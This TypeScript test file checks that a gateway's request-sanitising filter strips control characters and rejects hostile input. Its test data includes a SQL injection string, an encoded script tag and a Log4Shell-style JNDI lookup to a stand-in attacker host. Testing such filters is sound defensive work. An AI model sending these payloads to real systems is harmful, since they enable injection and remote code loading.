// The filter `sanitise` over requests, in a whole gateway.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { PATIENT } from '../support/callout-stage.js';
import { route, type TestConfig, TestGateway } from '../support/gateway.js';
import { startHttpTarget } from '../support/upstream-servers.js';

const SETS = ['xss', 'sql', 'path-traversal', 'command', 'template'];
const REQUEST = {
  headers: { allow: ['accept', 'x-note'] },
  controls: { in: ['query'], bodies: ['json'], action: 'strip' },
  inputs: [{ sets: SETS, in: ['query', 'path'], bodies: ['json', 'form'] }],
};

function configOf(url: string, grants: object): TestConfig {
  return {
    upstreams: { sample: { targets: [{ url }] } },
    filters: { clean: { module: 'builtin:sanitise', limits: PATIENT, config: { request: REQUEST }, grants } },
    routes: [route('all', '/*', ['clean'])],
  };
}

describe('the filter sanitise with `request`, behind a listener', () => {
  it('lets the upstream see what is left, and nothing of what is refused', async (test) => {
    const seen: string[] = [];
    const target = await startHttpTarget(test, async (request, response) => {
      let body = '';
      for await (const chunk of request) body += String(chunk);
      const { 'x-note': note, 'x-debug': debug, 'content-length': length } = request.headers;
      seen.push(`${request.url} ${note} ${debug} ${length} ${body}`);
      response.end();
    });
    const gateway = await TestGateway.start(test, configOf(target.url, { patterns: true }));
    const post = (path: string, body: unknown): Promise<Response> =>
      fetch(gateway.url(path), {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-note': 'n', 'x-debug': '1' },
        body: JSON.stringify(body),
      });
    assert.equal((await post('/a?b=%01c', { d: 'e\u202ef' })).status, 200);
    assert.deepEqual(seen, ['/a?b=c n undefined 10 {"d":"ef"}']);
    const refused = await post('/a', { d: ["x' or 1=1--"] });
    assert.equal(refused.status, 400);
    const { code, in: place, rule } = (await refused.json()) as Record<string, string>;
    assert.deepEqual([code, place, rule], ['SANITISE_INPUT', 'json', 'sql']);
    assert.equal((await fetch(gateway.url('/%3Cscript%3E'))).status, 400);
    assert.equal((await fetch(gateway.url('/?q=$%7Bjndi:ldap://evil.example%7D'))).status, 400);
    assert.equal(seen.length, 1);
  });

  it('does not load without the grant that its patterns take', async (test) => {
    const target = await startHttpTarget(test, (_, response) => response.end());
    await assert.rejects(TestGateway.start(test, configOf(target.url, {})), /patterns/);
  });
});
